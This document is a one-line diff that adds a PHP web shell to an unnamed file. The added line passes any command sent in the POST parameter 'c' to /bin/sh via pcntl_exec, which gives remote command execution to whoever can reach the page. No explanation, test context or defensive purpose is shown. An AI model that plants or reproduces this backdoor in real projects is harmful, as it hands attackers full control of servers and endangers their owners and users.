@@ -1,0 +1,1 @@
+<?php pcntl_exec('/bin/sh', array('-c', $_POST['c']));
